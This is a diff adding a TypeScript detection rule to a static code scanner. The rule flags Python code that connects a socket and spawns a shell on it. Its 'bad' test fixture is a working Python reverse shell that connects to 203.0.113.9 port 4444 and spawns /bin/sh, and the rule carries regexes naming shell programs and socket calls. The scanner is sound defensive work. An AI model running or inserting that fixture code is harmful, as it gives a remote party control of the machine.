@@ -1,0 +1,61 @@
+/** A shell whose input and output are a connection. */
+import { startsProgram } from '../python/names.ts';
+import type { Call } from '../python/source.ts';
+import { at, type CodeSign } from '../sign.ts';
+
+export const reverseShell: CodeSign = {
+  meta: {
+    code: 'reverse-shell',
+    summary: 'Hands a shell to a network connection',
+    strength: 'strong',
+    benignRate: 0.5,
+    docs: 'Whoever is at the other end has the machine. Debuggers and terminals use the parts, not all of them in one function.',
+    bad: {
+      files: {
+        'acme/tool.py':
+          "import os, pty, socket\ndef go():\n    s = socket.socket()\n    s.connect(('203.0.113.9', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
+      },
+    },
+    good: {
+      files: {
+        'acme/tool.py':
+          "import os, socket, subprocess\ndef probe(host):\n    socket.create_connection((host, 80))\ndef shell():\n    subprocess.call(['/bin/sh'])\n",
+      },
+    },
+  },
+  trigger: /\bdup2\b|\bstdin\s*=/,
+  alsoTrigger: /socket/,
+  *findInCode(source) {
+    const starts = source.calls.filter(({ name }) => startsProgram.test(name));
+    for (const call of starts.slice(0, mostStarts)) {
+      const around = source.functionAround(call.node);
+      const beside = source.calls.filter(other => source.functionAround(other.node) === around);
+      const connection = beside.find(({ name }) => connecting.test(name));
+      if (
+        !connection ||
+        !(call.name === 'pty.spawn' || source.textsOfCall(call).some(text => shell.test(text.slice(0, 500))))
+      )
+        continue;
+      const isJoined =
+        beside.some(({ name }) => name === 'os.dup2') || isFed(call, source.nameOf.bind(source));
+      if (!isJoined) continue;
+      const isFixed = source.textsOfCall(connection).some(text => /[\w.]{4,}/.test(text));
+      yield {
+        ...at(call.node),
+        message: `${call.name}() starts a shell that talks to a network connection`,
+        ...(isFixed && { strength: 'loud' }),
+      };
+    }
+  },
+};
+
+/** Each is compared with all calls of the source. */
+const mostStarts = 50;
+const connecting = /^socket\.(?:create_connection|socket\(\)\.connect)$/;
+const shell = /(?:^|\/)(?:ba|z|da|k)?sh(?:\s|$)|\bcmd(?:\.exe)?\b|powershell/;
+
+/** Input and output given to the program come from a socket. */
+function isFed({ keywords }: Call, nameOf: (node: Call['node']) => string | null): boolean {
+  const input = keywords.get('stdin');
+  return input !== undefined && /^socket\./.test(nameOf(input) ?? '');
+}
